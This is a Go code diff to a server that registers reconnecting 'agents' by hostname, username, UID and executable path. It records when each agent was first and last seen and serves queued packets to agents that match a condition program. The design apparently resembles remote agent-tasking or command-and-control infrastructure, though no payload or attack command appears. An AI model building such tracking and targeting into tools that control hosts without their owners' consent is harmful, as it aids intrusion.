@@ -1,12 +1,15 @@
 package main
 
 import (
+	"container/list"
+	"context"
 	"example.com/itsuMain/lib/connection"
 	"example.com/itsuMain/lib/message"
 	"example.com/itsuMain/lib/packet"
 	"example.com/itsuMain/lib/util"
 	"log"
 	"math/rand"
+	"strings"
 	"sync"
 	"time"
 )
@@ -19,8 +22,28 @@ type Server struct {
 
 	proxyListMutex *sync.RWMutex
 	proxyList      []message.ProxyRequest
+
+	//firstSeen is keyed by agentKey, agents reconnect often and get a new identifier every time.
+	//It only lives in memory, so it is lost on restart. Agents are only recorded once they sent a signed message, as the keys come from the handshake.
+	//seenOrder holds the *seenEntry of every agent, ordered by when they were last seen.
+	firstSeenMutex *sync.Mutex
+	firstSeen      map[string]*list.Element
+	seenOrder      *list.List
+}
+
+//seenEntry records when an agent was first and last seen
+type seenEntry struct {
+	key         string
+	first, last time.Time
 }
 
+const (
+	//firstSeenLimit is the number of agents remembered, the agent that was not seen for the longest time is forgotten first
+	firstSeenLimit = 1 << 16
+	//firstSeenExpiry is how long an agent that is not connected is remembered
+	firstSeenExpiry = time.Hour * 24 * 7
+)
+
 func NewServer() (s *Server) {
 	s = &Server{
 		clientsMutex: &sync.RWMutex{},
@@ -30,6 +53,10 @@ func NewServer() (s *Server) {
 
 		proxyListMutex: &sync.RWMutex{},
 		proxyList:      make([]message.ProxyRequest, 0),
+
+		firstSeenMutex: &sync.Mutex{},
+		firstSeen:      make(map[string]*list.Element),
+		seenOrder:      list.New(),
 	}
 
 	s.threadsWG.Add(1)
@@ -82,6 +109,35 @@ func (s *Server) garbageCollector() {
 		}
 	}
 
+	firstSeenCollector := func() {
+		now := time.Now()
+
+		keys := make([]string, 0)
+		s.clientsMutex.RLock()
+		for _, v := range s.clients {
+			if !v.done {
+				keys = append(keys, agentKey(v.sysInfo))
+			}
+		}
+		s.clientsMutex.RUnlock()
+
+		s.firstSeenMutex.Lock()
+		defer s.firstSeenMutex.Unlock()
+
+		//connected agents are still seen
+		for _, k := range keys {
+			if e, ok := s.firstSeen[k]; ok {
+				e.Value.(*seenEntry).last = now
+				s.seenOrder.MoveToBack(e)
+			}
+		}
+
+		for e := s.seenOrder.Front(); e != nil && now.Sub(e.Value.(*seenEntry).last) > firstSeenExpiry; e = s.seenOrder.Front() {
+			delete(s.firstSeen, e.Value.(*seenEntry).key)
+			s.seenOrder.Remove(e)
+		}
+	}
+
 	for {
 		select {
 		case _, ok := <-ticker.C:
@@ -90,11 +146,13 @@ func (s *Server) garbageCollector() {
 			}
 			clientCollector()
 			proxyCollector()
+			firstSeenCollector()
 		}
 	}
 }
 
-func (s *Server) allocateNewClient() (c *Client, identifier uint64) {
+//allocateNewClient registers a client for the session, everything that other goroutines read without locking it is set before it is published
+func (s *Server) allocateNewClient(sess connection.Session, sysInfo util.SystemInformation) (c *Client, identifier uint64) {
 	s.clientsMutex.Lock()
 	defer s.clientsMutex.Unlock()
 
@@ -106,13 +164,16 @@ func (s *Server) allocateNewClient() (c *Client, identifier uint64) {
 		identifier = rand.Uint64()
 	}
 
+	now := time.Now()
 	c = &Client{
-		Session: connection.Session{},
+		Session: sess,
 
-		identifier: 0,
-		sysInfo:    util.SystemInformation{},
+		identifier:  identifier,
+		sysInfo:     sysInfo,
+		connectedAt: now,
+		firstSeen:   s.firstSeenAt(sysInfo, now),
 
-		currentToken: 0,
+		currentToken: rand.Uint64(),
 
 		threadsWG: &sync.WaitGroup{},
 		done:      false,
@@ -137,6 +198,44 @@ func (s *Server) deleteClientByID(id uint64) bool {
 	return true
 }
 
+//agentKey identifies an agent across its connections
+func agentKey(info util.SystemInformation) string {
+	return strings.Join([]string{info.Hostname, info.Username, info.UIDStr, info.ExecPath}, "\000")
+}
+
+//firstSeenAt returns when the agent was first seen, which is now if it has not been recorded
+func (s *Server) firstSeenAt(info util.SystemInformation, now time.Time) time.Time {
+	s.firstSeenMutex.Lock()
+	defer s.firstSeenMutex.Unlock()
+
+	if e, ok := s.firstSeen[agentKey(info)]; ok {
+		return e.Value.(*seenEntry).first
+	}
+
+	return now
+}
+
+//recordSeen records that an authenticated agent was seen now, first is used if it has not been recorded yet
+func (s *Server) recordSeen(info util.SystemInformation, first, now time.Time) {
+	s.firstSeenMutex.Lock()
+	defer s.firstSeenMutex.Unlock()
+
+	key := agentKey(info)
+	if e, ok := s.firstSeen[key]; ok {
+		e.Value.(*seenEntry).last = now
+		s.seenOrder.MoveToBack(e)
+		return
+	}
+
+	if s.seenOrder.Len() >= firstSeenLimit {
+		oldest := s.seenOrder.Front()
+		delete(s.firstSeen, oldest.Value.(*seenEntry).key)
+		s.seenOrder.Remove(oldest)
+	}
+
+	s.firstSeen[key] = s.seenOrder.PushBack(&seenEntry{key, first, now})
+}
+
 func (s *Server) NewClient(sess connection.Session) (c *Client, err error) {
 	var handshakeRequest message.HandshakeRequestMessage
 	if tempMessage, _, err := sess.ReadMessageMID(message.MIDHandshakeRequest); err != nil {
@@ -146,12 +245,7 @@ func (s *Server) NewClient(sess connection.Session) (c *Client, err error) {
 	}
 
 	var identifier uint64
-	c, identifier = s.allocateNewClient()
-
-	c.Session = sess
-	c.identifier = identifier
-	c.sysInfo = handshakeRequest.SysInfo
-	c.currentToken = rand.Uint64()
+	c, identifier = s.allocateNewClient(sess, handshakeRequest.SysInfo)
 
 	if _, err = c.Session.WriteMessage(message.HandshakeReplyMessage{ID: identifier}); err != nil {
 		s.deleteClientByID(identifier)
@@ -208,6 +302,8 @@ func (s *Server) GetProxyRequests(from int64, to int64, cl *Client) []packet.Pac
 		to = time.Now().UnixMilli()
 	}
 
+	info := cl.information()
+
 	s.proxyListMutex.RLock()
 	defer s.proxyListMutex.RUnlock()
 
@@ -216,14 +312,11 @@ func (s *Server) GetProxyRequests(from int64, to int64, cl *Client) []packet.Pac
 			continue
 		}
 
-		if linked, err := v.ComparisonProgram.Link(map[string]interface{}{
-			"const0": 1.5,
-			"const1": "asdasd asd",
-		}); err != nil {
-			log.Println(err)
+		if matches, err := message.EvaluateCondition(context.Background(), v.ComparisonProgram, info); err != nil {
+			cl.logger().println("condition program failed: ", err)
+			continue
+		} else if !matches {
 			continue
-		} else {
-			log.Println(linked)
 		}
 
 		valids = append(valids, v.Packet)